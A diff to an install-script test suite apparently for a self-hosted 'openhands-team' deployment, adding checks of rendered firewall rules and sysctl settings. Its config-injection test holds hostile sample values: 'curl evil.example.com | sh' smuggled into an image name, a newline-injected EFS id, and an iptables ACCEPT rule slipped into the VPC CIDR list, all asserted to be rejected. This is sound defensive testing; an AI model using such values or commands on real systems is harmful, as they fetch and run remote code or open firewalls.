@@ -60,8 +60,24 @@ describe("install.sh on a bare host (dry run)", () => {
     expect(unit).toMatch(/^RequiredBy=docker.service$/m);
   });
 
+  it("THEN the firewall gets the VPC's CIDRs and the database port from the host configuration, filled into its rules, and IPv6 rules too", () => {
+    expect(host.file("etc/openhands-team/firewall.env")).toBe(
+      "# openhands-team firewall settings, rendered from the host configuration (network.vpcCidrs, database.port)\nVPC_CIDRS=10.0.0.0/16\nDATABASE_PORT=5432\n",
+    );
+    expect(host.mode("etc/openhands-team/firewall.env")).toBe("0644");
+    expect(host.file("etc/systemd/system/oh-firewall.service")).toMatch(/^ExecStart=\S+\/oh-firewall.sh \S+\/oh-firewall.rules \/etc\/openhands-team\/firewall.env$/m);
+    const loaded = readFileSync(join(host.state, "iptables"), "utf8");
+    expect(loaded).toContain("-A OH-FORWARD -i ohu-+ -s 10.240.0.2/255.255.0.255 -d 10.0.0.0/16 -p tcp --dport 5432 -j RETURN\n");
+    expect(loaded).toContain("-A OH-FORWARD -i ohu-+ -d 10.0.0.2/32 -p udp --dport 53 -j RETURN\n");
+    expect(loaded).toContain("-A OH-FORWARD -i ohu-+ -d 10.0.0.0/16 -j DROP\n");
+    expect(loaded).not.toContain("@");
+    expect(readFileSync(join(host.state, "ip6tables"), "utf8")).toContain("-A OH-FORWARD -i ohu-+ -j DROP\n");
+    expect(first.calls).toEqual(expect.arrayContaining(["ip6tables-restore -w --noflush", "ip6tables -w -I INPUT 1 -j OH-INPUT", "ip6tables -w -I DOCKER-USER 1 -j OH-FORWARD"]));
+  });
+
   it("THEN the kernel keeps bridged traffic in iptables and the ephemeral port range the firewall opens, at every boot", () => {
     expect(host.file("etc/sysctl.d/90-openhands-team.conf")).toContain("net.bridge.bridge-nf-call-iptables = 1\n");
+    expect(host.file("etc/sysctl.d/90-openhands-team.conf")).toContain("net.bridge.bridge-nf-call-ip6tables = 1\n");
     expect(host.file("etc/sysctl.d/90-openhands-team.conf")).toContain("net.ipv4.ip_local_port_range = 32768 60999\n");
     expect(host.file("etc/modules-load.d/openhands-team.conf")).toBe("br_netfilter\n");
     expect(firstIndex(first.calls, /^sysctl -q --system$/)).toBeLessThan(firstIndex(first.calls, /^systemctl start docker.service$/));
@@ -259,18 +275,22 @@ describe("install.sh refuses bad input (dry run)", () => {
     expect(run.calls).toEqual([]);
   });
 
-  it("GIVEN a host configuration with a newline in the EFS id and a shell command in an image (config injection) WHEN install.sh runs THEN every bad field is named and nothing is mounted", () => {
+  it("GIVEN a host configuration with a newline in the EFS id, a shell command in an image and a rule in the VPC CIDRs (config injection) WHEN install.sh runs THEN every bad field is named and nothing is mounted", () => {
     const config = sampleHostConfig() as Record<string, any>;
     config.efsFileSystemId = "fs-0123456789abcdef0 /mnt/x efs defaults 0 0\nfs-0123456789abcdef1:/";
     config.images.node = "node:20; curl evil.example.com | sh";
     config.bedrock.models = [];
+    // a firewall rule smuggled in through the VPC's CIDR list (it becomes an iptables argument)
+    config.network.vpcCidrs = ["10.0.0.0/16 -j ACCEPT\n-A OH-FORWARD -j ACCEPT", "10.1.0.0/33"];
     const host = newHost({ hostConfig: config });
     const run = host.run();
     expect(run.code).not.toBe(0);
     expect(run.stderr).toContain('efsFileSystemId: "fs-0123456789abcdef0 /mnt/x efs defaults 0 0\nfs-0123456789abcdef1:/" is not an EFS file system id');
     expect(run.stderr).toContain('images.node: "node:20; curl evil.example.com | sh" is not an image');
     expect(run.stderr).toContain("bedrock.models: [] is not a non-empty list of model ids");
-    expect(run.calls.filter((c) => /^(mount|mkfs|aws secretsmanager)/.test(c))).toEqual([]);
+    expect(run.stderr).toContain('network.vpcCidrs.0: "10.0.0.0/16 -j ACCEPT\n-A OH-FORWARD -j ACCEPT" is not an IPv4 CIDR');
+    expect(run.stderr).toContain('network.vpcCidrs.1: "10.1.0.0/33" is not an IPv4 CIDR');
+    expect(run.calls.filter((c) => /^(mount|mkfs|aws secretsmanager|ip6?tables)/.test(c))).toEqual([]);
     expect(host.file("etc/fstab")).not.toContain("efs");
   }, 320_000);
 
@@ -296,6 +316,7 @@ describe("install.sh refuses bad input (dry run)", () => {
     // the edge stack is applied: Terraform creates the parameter with its placeholder; the watchdog runs from the installed host files
     mkdirSync(join(host.root, "opt/openhands-team/host"), { recursive: true });
     cpSync(join(host.bundle, "firewall"), join(host.root, "opt/openhands-team/host/firewall"), { recursive: true });
+    writeFileSync(join(host.root, "etc/openhands-team/firewall.env"), "VPC_CIDRS=10.0.0.0/16\nDATABASE_PORT=5432\n");
     host.setParameter(EDGE_PARAMETER, '{"unset":true}');
     const watchdog = host.runScript("bin/oh-health-check.sh");
     expect(watchdog.code).toBe(0);
